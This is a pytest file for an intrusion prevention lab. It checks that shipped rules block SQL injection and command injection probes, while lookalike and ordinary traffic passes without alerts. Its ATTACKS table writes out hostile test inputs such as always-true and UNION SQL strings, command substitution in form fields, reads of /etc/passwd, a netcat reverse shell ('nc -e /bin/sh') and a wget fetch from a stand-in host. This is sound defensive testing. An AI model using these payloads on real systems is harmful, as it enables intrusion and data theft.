"""The rules that ship: each stops its attack, and ordinary traffic passes."""

from __future__ import annotations

import ssl
import struct
import subprocess
import threading
from pathlib import Path

import pytest

from tests.netns.ips.lab import OUTSIDE4, OUTSIDE6, IpsLab, Seen, receive
from tests.netns.ips.servers import (
    http_server,
)
from tests.netns.ips.traffic import (
    ALWAYS_TRUE,
    API,
    CARD,
    COMMAND,
    COMMAND_BODY,
    DB,
    NOWHERE,
    SQL_BODY,
    UNION,
    VERSIONS,
    WEB,
    fields,
    form,
    json_body,
    search,
    send,
)
from vcloud.compile.ips.rules import CANARY, NOT_VAPP, SHIPPED, VAPP, ShippedRule, http_request


@VERSIONS
@pytest.mark.parametrize("shipped", SHIPPED, ids=lambda shipped: str(shipped.rule.sid))
def test_each_rule_drops_and_logs_its_probe_and_lets_the_near_miss_pass(
    shared: IpsLab, shipped: ShippedRule, version: int
) -> None:
    outwards = VAPP in shipped.rule.source or NOT_VAPP in shipped.rule.target
    source, target = (WEB, NOWHERE) if outwards else (NOWHERE, WEB)
    stopped, passed = (
        send(shared, shipped.payload, payload, source[version], target[version])
        for payload in (shipped.payload.stopped, shipped.payload.passed)
    )
    assert (stopped.arrived, stopped.blocked) == (False, {shipped.rule.sid})
    assert (passed.arrived, passed.logged) == (True, set())


@VERSIONS
def test_the_canary_is_seen_between_zones_too_where_packets_cross_the_ips_twice(
    shared: IpsLab, version: int
) -> None:
    stopped, passed = (
        send(shared, CANARY.payload, payload, WEB[version], DB[version])
        for payload in (CANARY.payload.stopped, CANARY.payload.passed)
    )
    assert (stopped.arrived, stopped.blocked) == (False, {CANARY.rule.sid})
    assert (passed.arrived, passed.logged) == (True, set())


ATTACKS = {
    "union right after a quote": (
        UNION,
        search("-1'UNION SELECT 1"),
        search("union select committee"),
    ),
    "union after a quote, columns": (
        UNION,
        search("x')union/**/all select name from users"),
        search('"union select committee"'),
    ),
    "union without spaces": (
        UNION,
        search("1 union(select 1)"),
        search("1 union (selected works)"),
    ),
    "or between quotes": (ALWAYS_TRUE, search("1'or'1'='1"), search("rock'n'roll or pop")),
    "or between quotes, not encoded": (
        ALWAYS_TRUE,
        http_request("/?id=1'or'1'='1"),
        http_request("/?id=1'or'1'&b='1"),
    ),
    "bars between quotes": (ALWAYS_TRUE, search("1'||'1'='1"), search("1'||'1'='2")),
    "comments for spaces": (ALWAYS_TRUE, search("1'/**/or/**/1=1--"), search("1'/**/or/**/one=1")),
    "number": (ALWAYS_TRUE, http_request("/?id=1%20or%201=1"), search("1 or 2")),
    "number, in brackets": (ALWAYS_TRUE, search("-1) or (7=7"), search("2 or 3=31")),
    "number, in the path": (
        ALWAYS_TRUE,
        http_request("/item/5+OR+1=1"),
        http_request("/item/5+OR+1=12"),
    ),
    "word that is true": (
        ALWAYS_TRUE,
        search("' or true--"),
        search("O'Neill or O'Hara or true--crime"),
    ),
    "nothing is nothing": (ALWAYS_TRUE, search("' or ''='"), search("' or '='")),
    "quotes in JSON": (
        SQL_BODY,
        json_body(r'{"user":"a\" or \"1\"=\"1"}'),
        json_body(r'{"user":"a\" or \"1\"","b":"1=1"}'),
    ),
    "number in JSON": (
        SQL_BODY,
        json_body('{"id":"1 or 1=1"}'),
        json_body('{"id":"1 or 2", "or":"1=1"}'),
    ),
    "form": (SQL_BODY, form("user=a'or'1'='1&x=y"), form("user=O'Neill or O'Hara&x=1")),
    "dollar for a space": (
        COMMAND,
        http_request("/?h=a|cat$IFS/etc/hosts"),
        http_request("/?h=a|cat$IF/etc/hosts"),
    ),
    "line": (COMMAND, http_request("/?h=a%0Aid%0A"), http_request("/?h=a%0AID%0A")),
    "netcat": (COMMAND, search("a|nc 192.0.2.1 4444"), search("Raleigh;nc 27601")),
    "cat": (COMMAND_BODY, form("host=a;cat /etc/passwd"), form("host=a; cat and /dog")),
    "cat, dollar for a space": (
        COMMAND_BODY,
        form("host=a|cat${IFS}/etc/hosts"),
        form("host=a|cat${IF}/etc/hosts"),
    ),
    "replaced": (COMMAND_BODY, form("host=$(id)&x=y"), form("host=$(idle)&x=y")),
    "in backticks": (COMMAND_BODY, form("host=a`id`&x=y"), form("text=the column `id` is the key")),
    "value in backticks": (
        COMMAND_BODY,
        json_body('{"host":"`whoami`"}'),
        json_body('{"text":"`whoami` prints a name"}'),
    ),
    "netcat in a body": (
        COMMAND_BODY,
        form("host=a | nc -e /bin/sh 192.0.2.1 4444"),
        form("address=Raleigh | NC 27601"),
    ),
    "wget": (
        COMMAND_BODY,
        form("host=a %26%26 wget http://192.0.2.1/x"),
        form("host=a %26%26 wget it. Then"),
    ),
    "field": (COMMAND_BODY, fields("a;id"), fields("name;id;price\r\nlamp;1;2")),
    "between semicolons": (COMMAND_BODY, form("host=a;id;&x=y"), form("csv=name;id;price")),
    "between bars": (COMMAND_BODY, form("host=|id|&x=y"), form("table=| name | id | price |")),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_stopped_by_its_rule_and_what_is_much_like_it_passes(
    shared: IpsLab, name: str
) -> None:
    sid, attack, innocent = ATTACKS[name]
    stopped = shared.tcp(OUTSIDE4, WEB[0], 8000, attack)
    assert (stopped.arrived, stopped.blocked) == (False, {sid})
    assert shared.tcp(OUTSIDE4, WEB[0], 8000, innocent) == Seen(arrived=True, alerts=())


# --- ordinary traffic


ORDINARY = {
    "form": http_request(
        "/login?next=%2Fcart%3Fa%3D1%26b%3D2",
        "",
        b"user=o'hara&comment=select+the+best+union+or+not;+1=1",
        "POST",
    ),
    "search": http_request(
        "/search?q=union+of+select+committees+or+%27drop+tables%27&sort=price;desc"
    ),
    "json": http_request(
        "/api",
        "Content-Type: application/json\r\n",
        b'{"q": "cat /dev/null; ls", "n": [1.4111111111111111, 2], "or": "1=1"}',
        "POST",
    ),
    "upload": http_request(
        "/up",
        "Content-Type: multipart/form-data; boundary=b\r\n",
        b'--b\r\nContent-Disposition: form-data; name="f"; filename="my.photo.png"\r\n\r\n'
        + bytes(range(256)) * 40
        + b"\r\n--b--\r\n",
        "POST",
    ),
    "fields": fields(
        "ID", "id", "Jo Doe\r\nRaleigh\r\nNC 27601", "Read on.\r\nMore ...", "id\r\n1\r\n2"
    ),
    "field of one line": fields("ID"),
    "address": fields("Jo Doe\nRaleigh\nNC 27601"),
    "table": http_request("/", "Content-Type: text/csv\r\n", b"id\r\n1\r\n2\r\n", "POST"),
    "table with columns": http_request(
        "/", "Content-Type: text/csv\r\n", b"name;id\r\nlamp;1\r\n", "POST"
    ),
    "notes": form("note=try%20this:%0Als%0A...%0AFetch%20www.example.com%0Aid%0AMore%20.%0A"),
    "sentences": form("note=Sit;+fetch+it.+Then+stay;+more+...+see+the+union;+select+1=1"),
    "pop": search("rock'n'roll or pop, 1 or 2, 'union select committee' of O'Neill or O'Hara"),
    "browser": http_request(
        "/a/../b/./c.html?x=%3Cb%3E",
        "User-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nCookie: a=b; c=d\r\nAccept: */*\r\n",
    ),
    "websocket": http_request(
        "/ws",
        "Upgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n",
    ),
    "postgres": struct.pack("!II", 34, 196608)
    + b"user\0shop\0database\0shop\0\0"
    + b"Q\0\0\0\x2dSELECT * FROM orders WHERE id = 1 OR 1=1\0",
    "ssh": b"SSH-2.0-OpenSSH_9.2\r\n" + bytes(range(256)) * 4,
    "redis": b"*3\r\n$3\r\nSET\r\n$1\r\na\r\n$17\r\n41111111111111112\r\n",
    "binary": bytes(range(256)) * 4000,
    "5 MB": b"lorem ipsum dolor sit amet, consectetur\n" * 130_000,
    "digits": b"".join(b"%d;" % (number * 7919 % 1_000_000) for number in range(100_000)),
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_traffic_passes_and_nothing_is_logged(shared: IpsLab, name: str) -> None:
    """From outside, and out of the zones that the detectors watch."""
    for source, target in ((OUTSIDE4, WEB[0]), (API[0], OUTSIDE4), (WEB[1], API[1])):
        assert shared.tcp(source, target, 8000, ORDINARY[name]) == Seen(arrived=True, alerts=())


def test_a_download_of_5_mb_passes(shared: IpsLab) -> None:
    body = ORDINARY["5 MB"]
    answer = b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    assert shared.tcp(OUTSIDE4, API[0], 80, answer, request=http_request()) == Seen(
        arrived=True, alerts=()
    )


def test_curl_and_a_web_server_speak_through_it(shared: IpsLab) -> None:
    with http_server(shared.machine(WEB[0]), WEB[0]) as port:
        done = shared.firewall.run(
            "curl",
            "-sS",
            "--max-time",
            "60",
            "--interface",
            OUTSIDE4,
            "-d",
            "name=Jo&card=none",
            f"http://{WEB[0]}:{port}/",
        )
        assert done.stdout == b"got 17"


@pytest.mark.parametrize("size", [0, 3000], ids=["plain", "with a hello of several segments"])
def test_real_tls_passes_on_port_443_outwards(shared: IpsLab, tmp_path: Path, size: int) -> None:
    """A client hello longer than a segment must not be taken for something else than TLS."""
    subprocess.run(
        [
            *[
                "openssl",
                "req",
                "-x509",
                "-newkey",
                "ec",
                "-pkeyopt",
                "ec_paramgen_curve:P-256",
                "-nodes",
                "-days",
                "1",
                "-subj",
                "/CN=x",
            ],
            "-keyout",
            tmp_path / "key",
            "-out",
            tmp_path / "crt",
        ],
        check=True,
        capture_output=True,
    )
    server_side, client_side = (
        ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER),
        ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT),
    )
    server_side.load_cert_chain(tmp_path / "crt", tmp_path / "key")
    client_side.check_hostname, client_side.verify_mode = False, ssl.CERT_NONE
    if size:
        client_side.set_alpn_protocols([f"{number:0>200}" for number in range(size // 200)])
    with shared.connection(API[0], OUTSIDE4, 443) as (client, server):
        threading.Thread(
            target=lambda: server_side.wrap_socket(server, server_side=True).sendall(CARD.encode()),
            daemon=True,
        ).start()
        assert receive(client_side.wrap_socket(client), 16) == CARD.encode()


def test_packets_of_full_size_pass(shared: IpsLab) -> None:
    assert shared.udp(OUTSIDE4, WEB[0], 9000, b"x" * 1472).arrived
    assert shared.udp(OUTSIDE6, WEB[1], 9000, b"x" * 9000).arrived, "in fragments"
